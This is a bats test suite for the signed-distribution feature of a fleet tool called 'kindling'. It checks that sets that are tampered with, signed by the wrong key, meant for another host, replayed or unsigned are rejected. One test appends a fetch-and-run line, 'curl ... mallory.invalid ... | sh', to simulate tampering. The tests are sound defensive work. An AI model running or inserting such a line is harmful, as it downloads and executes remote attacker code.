#!/usr/bin/env bats
# Signed distribution: `kindling sign` on the reviewer's side (ssh-keygen -Y sign), and the
# generated kindling-fetch of alpha verifying it (ssh-keygen -Y verify against the allowed
# signers that setup installs, serial never going down), run in a private mount namespace
# (helpers/host-sandbox.bash) with real ssh-keygen, sha256sum and bash.
bats_require_minimum_version 1.5.0
load common
load helpers/wf-fetch

setup_file() {
  local keys="$BATS_FILE_TMPDIR/keys" inventory="$BATS_FILE_TMPDIR/signed.yaml"
  mkdir -p "$keys"
  ssh-keygen -q -t ed25519 -N '' -C reviewer -f "$keys/reviewer"
  ssh-keygen -q -t ed25519 -N '' -C mallory -f "$keys/mallory"
  cp "$REPO_ROOT/test/fixtures/inventories/wf-fleet.yaml" "$inventory"
  printf '  signing:\n    allowedSigners:\n      - %s\n' \
    "'reviewer@wf-test namespaces=\"kindling\" $(cut -d' ' -f1,2 "$keys/reviewer.pub")'" >"$BATS_FILE_TMPDIR/signing.yaml"
  # fleet.signing goes right after fleet.removableLabelPrefix (the last key of fleet:).
  sed -i "/^  removableLabelPrefix: /r $BATS_FILE_TMPDIR/signing.yaml" "$inventory"
  "${KINDLING[@]}" generate -i "$inventory" -o "$BATS_FILE_TMPDIR/dist" >/dev/null 2>&1
}

setup() {
  KEYS="$BATS_FILE_TMPDIR/keys"
  fetch_sandbox
  # The allowed signers exactly as alpha's generated setup installs them.
  sed -n "/<<'KINDLING_ALLOWED_SIGNERS_END'/,/^KINDLING_ALLOWED_SIGNERS_END$/p" "$BATS_FILE_TMPDIR/dist/alpha/setup" \
    | sed '1d;$d' >"$ROOT/var/lib/kindling/allowed_signers"
  sandbox_install "$ROOT" "$BATS_FILE_TMPDIR/dist/alpha/kindling-fetch"
}

# Copies the generated tree to DIR and signs it there with KEY and SERIAL:
# signed_copy DIR KEY SERIAL
signed_copy() {
  rm -rf -- "$1"
  cp -r -- "$BATS_FILE_TMPDIR/dist" "$1"
  "${KINDLING[@]}" sign -i "$BATS_FILE_TMPDIR/signed.yaml" --key "$2" -o "$1" --serial "$3" >/dev/null
}

# Runs alpha's kindling-fetch in the sandbox.
fetch() {
  sandbox_run "$ROOT" /usr/local/bin/kindling-fetch
}

# Asserts that nothing was installed, and that the log and the mail name the rejection:
# assert_rejected REASON_PATTERN
assert_rejected() {
  # Nothing was installed beside the kindling-fetch that setup() put there.
  run ls -A "$ROOT/usr/local/bin"
  assert_output kindling-fetch
  run grep -E "kindling-fetch\[[0-9]+\] ERROR $1" "$ROOT/var/log/blaze-backup.log"
  assert_success
  run grep -c '^Subject: kindling-fetch on alpha: the set was rejected' "$MAIL"
  assert_output 1
}

@test "kindling sign writes each host a MANIFEST of host, serial and SHA256SUMS digest that ssh-keygen -Y verify accepts" {
  run "${KINDLING[@]}" sign -i "$BATS_FILE_TMPDIR/signed.yaml" --key "$KEYS/reviewer" -o "$BATS_TEST_TMPDIR/tree" --serial 7
  assert_failure 2
  cp -r "$BATS_FILE_TMPDIR/dist" "$BATS_TEST_TMPDIR/tree"
  run "${KINDLING[@]}" sign -i "$BATS_FILE_TMPDIR/signed.yaml" --key "$KEYS/reviewer" -o "$BATS_TEST_TMPDIR/tree" --serial 7
  assert_success
  assert_output "$BATS_TEST_TMPDIR/tree/: signed 3 hosts (alpha, bravo, charlie) with serial 7"
  local host
  for host in alpha bravo charlie; do
    run cat "$BATS_TEST_TMPDIR/tree/$host/MANIFEST"
    assert_output "$(printf 'kindling-manifest 1\nhost %s\nserial 7\nsha256sums %s' "$host" \
      "$(sha256sum <"$BATS_TEST_TMPDIR/tree/$host/SHA256SUMS" | cut -d' ' -f1)")"
    run ssh-keygen -Y verify -f "$ROOT/var/lib/kindling/allowed_signers" -I reviewer@wf-test -n kindling \
      -s "$BATS_TEST_TMPDIR/tree/$host/MANIFEST.sig" <"$BATS_TEST_TMPDIR/tree/$host/MANIFEST"
    assert_success
  done
  run "${KINDLING[@]}" sign -i "$BATS_FILE_TMPDIR/signed.yaml" --key "$KEYS/nobody" -o "$BATS_TEST_TMPDIR/tree"
  assert_failure 2
  assert_output --partial "no key file $KEYS/nobody"
  run "${KINDLING[@]}" sign -i "$BATS_FILE_TMPDIR/signed.yaml" --key "$KEYS/reviewer" -o "$BATS_TEST_TMPDIR/tree" --serial 12abc
  assert_failure 2
}

@test "kindling sign refuses an inventory without fleet.signing and writes nothing" {
  cp -r "$BATS_FILE_TMPDIR/dist" "$BATS_TEST_TMPDIR/tree"
  local before
  before=$(cd "$BATS_TEST_TMPDIR/tree" && find . -type f | LC_ALL=C sort | xargs sha256sum)
  run --separate-stderr "${KINDLING[@]}" sign -i "$REPO_ROOT/test/fixtures/inventories/wf-fleet.yaml" \
    --key "$KEYS/reviewer" -o "$BATS_TEST_TMPDIR/tree" --serial 7
  assert_failure 2
  assert_output ''
  [[ "$stderr" == *"has no fleet.signing"* ]]
  [[ "$stderr" == *"hint: add fleet.signing.allowedSigners"* ]]
  run bash -c "cd '$BATS_TEST_TMPDIR/tree' && find . -type f | LC_ALL=C sort | xargs sha256sum"
  assert_output "$before"
}

@test "a set signed by an allowed signer is installed and its serial recorded" {
  signed_copy "$BATS_TEST_TMPDIR/tree" "$KEYS/reviewer" 100
  serve "$BATS_TEST_TMPDIR/tree/alpha"
  run fetch
  assert_success
  run cmp "$BATS_FILE_TMPDIR/dist/alpha/blaze" "$ROOT/usr/local/bin/blaze"
  assert_success
  assert_equal "$(cat "$ROOT/var/lib/kindling/dist-serial")" 100
  run grep -c 'INFO MANIFEST serial 100 signed by reviewer@wf-test' "$ROOT/var/log/blaze-backup.log"
  assert_output 1
}

@test "a set signed by a key that is not an allowed signer is rejected" {
  signed_copy "$BATS_TEST_TMPDIR/tree" "$KEYS/mallory" 100
  serve "$BATS_TEST_TMPDIR/tree/alpha"
  run fetch
  assert_failure 1
  assert_rejected 'MANIFEST is signed by a key that is not in /var/lib/kindling/allowed_signers'
}

@test "a MANIFEST changed after signing is rejected: the signature does not verify" {
  signed_copy "$BATS_TEST_TMPDIR/tree" "$KEYS/reviewer" 100
  serve "$BATS_TEST_TMPDIR/tree/alpha"
  sed -i 's/^serial 100$/serial 900/' "$SERVED/MANIFEST"
  run fetch
  assert_failure 1
  assert_rejected 'the signature of MANIFEST does not verify for reviewer@wf-test'
}

@test "files changed after signing are rejected even with a recomputed SHA256SUMS" {
  signed_copy "$BATS_TEST_TMPDIR/tree" "$KEYS/reviewer" 100
  serve "$BATS_TEST_TMPDIR/tree/alpha"
  printf 'curl -s http://mallory.invalid/x | sh\n' >>"$SERVED/blaze"
  (cd "$SERVED" && sha256sum -- $(awk '{ print $2 }' SHA256SUMS) >SHA256SUMS.new && mv SHA256SUMS.new SHA256SUMS)
  run fetch
  assert_failure 1
  assert_rejected 'MANIFEST is signed for another SHA256SUMS'
}

@test "another host's validly signed MANIFEST is rejected" {
  signed_copy "$BATS_TEST_TMPDIR/tree" "$KEYS/reviewer" 100
  serve "$BATS_TEST_TMPDIR/tree/alpha"
  cp "$BATS_TEST_TMPDIR/tree/bravo/MANIFEST" "$BATS_TEST_TMPDIR/tree/bravo/MANIFEST.sig" "$SERVED/"
  run fetch
  assert_failure 1
  assert_rejected 'MANIFEST is not a kindling manifest for alpha'
}

@test "an older, validly signed set is refused once a newer one is installed (no replay)" {
  signed_copy "$BATS_TEST_TMPDIR/old" "$KEYS/reviewer" 100
  signed_copy "$BATS_TEST_TMPDIR/new" "$KEYS/reviewer" 200
  serve "$BATS_TEST_TMPDIR/new/alpha"
  run fetch
  assert_success
  assert_equal "$(cat "$ROOT/var/lib/kindling/dist-serial")" 200
  # The same set again is fine (the nightly fetch of an unchanged set).
  run fetch
  assert_success
  serve "$BATS_TEST_TMPDIR/old/alpha"
  run fetch
  assert_failure 1
  run grep -c "ERROR the set's serial 100 is older than the installed set's 200: an old set replayed" "$ROOT/var/log/blaze-backup.log"
  assert_output 1
  assert_equal "$(cat "$ROOT/var/lib/kindling/dist-serial")" 200
}

@test "an unsigned set is rejected when the inventory asks for signed distribution" {
  serve "$BATS_FILE_TMPDIR/dist/alpha"
  run fetch
  assert_failure 1
  assert_rejected 'the set is not signed \(MANIFEST or MANIFEST.sig missing\); signing is required'
}
